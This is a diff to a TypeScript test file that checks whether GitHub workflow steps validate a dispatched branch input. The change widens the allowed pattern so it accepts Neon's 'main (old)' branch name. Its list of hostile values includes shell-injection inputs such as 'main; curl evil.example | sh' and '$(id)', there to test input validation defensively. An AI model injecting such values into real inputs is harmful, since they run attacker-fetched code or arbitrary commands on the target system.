@@ -50,6 +50,8 @@ interface Workflow {
 const THIS_ACTION = /^(\.\/|neon-recovery\/neon-recovery-action@)/
 const EXPRESSION = /\$\{\{\s*(.*?)\s*\}\}/g
 const BRANCH_LIKE = 'release/2026.12_hotfix-1'
+/** The name Neon gives the branch a snapshot restore replaces (neon-notes.md: finalize_restore). */
+const OLD_BRANCH = 'main (old)'
 /** Values a branch check must refuse: shell syntax, an option, a newline, a quote, one character too many. */
 const HOSTILE = ['main; curl evil.example | sh', '$(id)', '`id`', 'main\nid', '-rf', "it's", 'a'.repeat(257)]
 
@@ -133,7 +135,12 @@ function checkProblems(inputs: Record<string, DispatchInput>, name: string, step
   if (step.uses || !step.run || !passesThroughEnv) {
     return [`inputs.${name} is used before a run: step checks it (add one with env: NAME: \${{ inputs.${name} }})`]
   }
-  const good = [BRANCH_LIKE, 'a'.repeat(256), ...(inputs[name].default === undefined ? [] : [inputs[name].default])]
+  const good = [
+    BRANCH_LIKE,
+    OLD_BRANCH,
+    'a'.repeat(256),
+    ...(inputs[name].default === undefined ? [] : [inputs[name].default])
+  ]
   return [
     ...good.filter((value) => !accepts(step, inputs, name, String(value))).map((v) => `check refuses ${name}=${v}`),
     ...HOSTILE.filter((value) => accepts(step, inputs, name, value)).map((v) => `check accepts ${name}=${v}`)
@@ -175,7 +182,8 @@ describe('each rule fails a workflow that breaks it', () => {
       - env:
           BRANCH: \${{ inputs.branch }}
         run: |
-          if ! [[ "$BRANCH" =~ ^[A-Za-z0-9][A-Za-z0-9._/-]{0,255}$ ]]; then
+          name='^[A-Za-z0-9][A-Za-z0-9._/ ()-]{0,255}$'
+          if ! [[ "$BRANCH" =~ $name ]]; then
             echo "::error::branch must be a branch name or id"; exit 1
           fi`
   const workflow = (options: { top?: string; job?: string; steps: string; inputs?: string }) => `
@@ -246,8 +254,10 @@ ${options.job ?? ''}
   })
 
   test('a check that lets hostile values through', () => {
-    const weak = CHECK.replace('^[A-Za-z0-9][A-Za-z0-9._/-]{0,255}$', '^[^[:space:]]+$')
+    const weak = CHECK.replace('^[A-Za-z0-9][A-Za-z0-9._/ ()-]{0,255}$', '^[^[:space:]]+$')
     expect(problems(workflow({ steps: weak + USE }))).toEqual([
+      // No spaces at all is also too strict for the name Neon gives a replaced branch.
+      'check refuses branch=main (old)',
       'check accepts branch=$(id)',
       'check accepts branch=`id`',
       'check accepts branch=-rf',
